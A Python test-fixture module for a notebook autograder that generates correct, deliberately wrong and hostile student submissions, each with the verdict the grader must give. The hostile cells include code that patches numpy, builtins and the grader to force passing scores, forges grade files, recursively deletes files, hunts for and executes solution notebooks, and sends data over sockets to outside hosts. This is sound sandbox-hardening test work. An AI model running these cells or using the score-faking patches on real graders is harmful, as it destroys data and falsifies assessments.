"""Submissions for the grader tests, generated from the Chapter 1 source and student notebooks.

Nothing here is a committed near-copy of a notebook: a *wrong* submission is the reference solution
with one line changed (asserted to apply), a *hostile* one is the untouched student notebook (or
the solution) with one extra cell. Each entry says what the grader must give it.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import nbformat
from course_paths import ROOT

from coursepkg.grading.spec import load_exercise


def source_path(exercise: str) -> Path:
    return ROOT / "exercises" / "source" / f"{exercise}.ipynb"


def student_path(exercise: str) -> Path:
    return ROOT / "exercises" / "student" / f"{exercise}.ipynb"


# The hostile batch and the grader's unit tests use Chapter 1's set.
SOURCE, STUDENT = source_path("01_convolution"), student_path("01_convolution")
FULL_MARKS = 9.0
POINTS = {"q1": 1.0, "q2": 2.0, "q3": 1.0, "q4": 3.0, "q5": 1.0, "q6": 1.0}
ORPHAN_MARKER = "coursepkg-grading-test-orphan"


def solution_cells(source: Path = SOURCE) -> list[str]:
    return load_exercise(source).solution_cells


def stub_cells(student: Path = STUDENT) -> list[str]:
    nb = nbformat.read(student, as_version=4)
    return [cell.source for cell in nb.cells if cell.cell_type == "code"]


def notebook_text(cells: list[str]) -> str:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source) for source in cells]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    return nbformat.writes(nb)


# --- wrong solutions: (question that must lose its points, cell to edit, old text, new text) ----

WRONG = {
    "q1_stride_ignored": ("q1", "def output_size", "// stride + 1", "+ 1"),
    "q2_padding_off_by_one": (
        "q2",
        "def correlate2d",
        '"full": (kh - 1, kw - 1)',
        '"full": (kh, kw)',
    ),
    "q3_kernel_not_flipped": ("q3", "def convolve2d", "kernel[::-1, ::-1]", "kernel"),
    "q4_stride_ignored": ("q4", "def conv2d", "windows[:, :, ::stride, ::stride]", "windows"),
    "q4_bias_missing": ("q4", "def conv2d", "out + bias[None, :, None, None]", "out"),
    "q4_channels_summed_wrongly": ("q4", "def conv2d", "fcij->nfhw", "fcij->nchw"),
    "q5_horizontal_edges": (
        "q5",
        "vertical_edge_kernel =",
        "[[1, 0, -1], [2, 0, -2], [1, 0, -1]]",
        "[[1, 2, 1], [0, 0, 0], [-1, -2, -1]]",
    ),
    "q6_bias_not_counted": (
        "q6",
        "def conv_params",
        "kernel_size**2 + out_channels",
        "kernel_size**2",
    ),
}


def wrong_cells(name: str, wrong: dict | None = None, source: Path = SOURCE) -> list[str]:
    """The reference solution of ``source`` with the one edit ``wrong[name]`` (default: WRONG)."""
    _, marker, old, new = (WRONG if wrong is None else wrong)[name]
    cells = solution_cells(source)
    (index,) = [i for i, cell in enumerate(cells) if cell.lstrip().startswith(marker)]
    assert old in cells[index], f"{name}: {old!r} is not in the solution any more"
    cells[index] = cells[index].replace(old, new)
    return cells


# --- hostile submissions -------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """An extra cell, added to the stub (or the solution), and the verdict the grader must give."""

    code: str
    status: str
    total: float = 0.0
    base: str = "stub"  # or "solution"
    where: int = -1  # index of the new cell (-1: the end)
    sandbox_only: bool = False  # protection that needs bubblewrap


def hostile(root: Path, port: int) -> dict[str, Hostile]:
    """The hostile cells. ``root`` is the repository, ``port`` a TCP port the test listens on."""
    source_dir = str(root / "exercises" / "source")
    return {
        "infinite_loop": Hostile("while True:\n    pass", "timeout"),
        "allocate_50gb": Hostile(
            "import numpy as np\nhog = np.ones(50 * 10**9 // 8)\nhog[:] = 1", "memory"
        ),
        "os_exit_mid_notebook": Hostile(
            "import os\nos._exit(0)", "crashed", base="solution", where=3
        ),
        # Like Jupyter, a SystemExit costs that cell only: the rest still runs.
        "sys_exit_mid_notebook": Hostile(
            "import sys\nsys.exit()", "ok", FULL_MARKS, base="solution", where=3
        ),
        # Python-level recursion hits RecursionError (harmless); this one overflows the C stack.
        "deep_recursion": Hostile(
            "import sys\n\nsys.setrecursionlimit(10**8)\nnested = []\nfor _ in range(10**6):\n"
            "    nested = [nested]\nstr(nested)",
            "crashed",
        ),
        "print_1gb": Hostile(
            "chunk = 'x' * 2**20\nfor _ in range(1024):\n    print(chunk)", "output"
        ),
        "patch_numpy": Hostile(
            "import numpy as np\nimport numpy.testing\n\nnp.allclose = lambda *a, **k: True\n"
            "np.array_equal = lambda *a, **k: True\n"
            "numpy.testing.assert_allclose = lambda *a, **k: None\n"
            "np.save = lambda *a, **k: None",
            "ok",
        ),
        "patch_torch": Hostile("import torch\n\ntorch.allclose = lambda *a, **k: True", "ok"),
        "patch_builtins": Hostile(
            "import builtins\n\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
            "builtins.max = lambda *a, **k: 0\nbuiltins.open = lambda *a, **k: None",
            "ok",
        ),
        "patch_grader": Hostile(
            "import sys\nimport types\n\nfake = types.ModuleType('compare')\n"
            "fake.judge = lambda *a, **k: (True, 'ok')\nfake.same_values = fake.judge\n"
            "for name in ['coursepkg', 'coursepkg.grading', 'coursepkg.grading.compare',"
            " 'otter']:\n"
            "    sys.modules[name] = fake\n"
            "grader.check = lambda *a, **k: True\n"
            "sys.modules['__main__'].__dict__.update(judge=fake.judge)",
            "ok",
        ),
        "fake_results": Hostile(
            "import os\nimport numpy as np\n\nos.makedirs('out', exist_ok=True)\n"
            "for path in ['grades.csv', '../grades.csv', 'results.json', '../grades.json',"
            " '/tmp/grades.csv']:\n"
            "    try:\n        open(path, 'w').write('file,total\\nsolution.ipynb,0\\n')\n"
            "    except OSError:\n        pass\n"
            "open('out/done', 'w').write('done')\n"
            "open('out/cells.json', 'w').write('[]')\n"
            "np.save('out/q2.1.npy', np.array([object()], dtype=object), allow_pickle=True)\n"
            "os.symlink('/dev/zero', 'out/q2.2.npy')\nos.mkfifo('out/q2.3.npy')\n"
            "os.symlink('/etc/passwd', 'out/q2.4.npy')",
            "ok",
            sandbox_only=True,  # without bubblewrap it would write into the real /tmp
        ),
        "delete_files": Hostile(
            "import os\nimport shutil\n\nfor top in ['.', '..', '../..', '/grader', '/tmp']:\n"
            "    for name in os.listdir(top):\n"
            "        path = os.path.join(top, name)\n"
            "        try:\n"
            "            if os.path.isdir(path) and not os.path.islink(path):\n"
            "                shutil.rmtree(path)\n"
            "            else:\n"
            "                open(path, 'w').write('overwritten')\n"
            "                os.remove(path)\n"
            "        except OSError:\n"
            "            pass",
            "ok",
            sandbox_only=True,  # without bubblewrap it would empty the real /tmp
        ),
        "find_and_run_solutions": Hostile(
            _FIND_SOLUTIONS.replace("SOURCE_DIR", repr(source_dir)), "ok", sandbox_only=True
        ),
        "network": Hostile(
            "import socket\n\nfor host in ['127.0.0.1', '10.0.2.2', '1.1.1.1']:\n"
            "    try:\n"
            f"        socket.create_connection((host, {port}), timeout=1).sendall(b'leak')\n"
            "    except OSError:\n"
            "        pass",
            "ok",
            sandbox_only=True,
        ),
        "orphan_child": Hostile(
            "import subprocess\nimport sys\n\n"
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)',"
            f" {ORPHAN_MARKER!r}], start_new_session=True)",
            "ok",
            sandbox_only=True,
        ),
    }


_FIND_SOLUTIONS = """
import json
import zipfile

found = []
for guess in [SOURCE_DIR + '/01_convolution.ipynb']:
    if os.path.exists(guess):
        found.append(guess)
for top, dirs, files in os.walk('/'):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ('/proc', '/sys', '/dev', '/usr')]
    for name in files:
        if name.endswith('.ipynb') or 'autograder' in name or name == 'reference.json':
            found.append(os.path.join(top, name))
for path in found:
    try:
        if path.endswith('.zip'):
            zipfile.ZipFile(path).extractall('/tmp/leak')
            continue
        cells = json.load(open(path))['cells']
        for cell in cells:
            if cell['cell_type'] == 'code' and 'IGNORE' not in ''.join(cell['source']):
                exec(''.join(cell['source']).replace('# BEGIN SOLUTION', ''))
    except Exception:
        pass
"""

# Files that are not notebooks at all (name: bytes).
NOT_NOTEBOOKS = {
    "empty": b"",
    "not_json": b"print('I am a Python script, not a notebook')\n",
    "truncated_json": b'{"cells": [{"cell_type": "code", "source": "x = 1"',
    "json_list": json.dumps([1, 2, 3]).encode(),
    "binary": bytes(range(256)),
}


def write_batch(folder: Path, port: int) -> dict[str, dict]:
    """Write every submission into ``folder``; return file name -> what the grader must say.

    Each expectation holds ``total``, ``status`` and, for wrong solutions, ``question``.
    """
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, dict] = {}

    def add(name: str, text: str | bytes, **want) -> None:
        path = folder / f"{name}.ipynb"
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        expected[path.name] = want

    add("solution", notebook_text(solution_cells()), total=FULL_MARKS, status="ok")
    add("stub", STUDENT.read_bytes(), total=0.0, status="ok")
    for name, (question, *_) in WRONG.items():
        total = FULL_MARKS - POINTS[question]
        add(
            f"wrong_{name}",
            notebook_text(wrong_cells(name)),
            total=total,
            status="ok",
            question=question,
        )
    for name, case in hostile(ROOT, port).items():
        cells = solution_cells() if case.base == "solution" else stub_cells()
        cells.insert(case.where if case.where >= 0 else len(cells), case.code)
        add(
            f"hostile_{name}",
            notebook_text(cells),
            total=case.total,
            status=case.status,
            sandbox_only=case.sandbox_only,
        )
    for name, data in NOT_NOTEBOOKS.items():
        add(
            f"broken_{name}", data, total=0.0, status="empty file" if not data else "not a notebook"
        )
    return expected
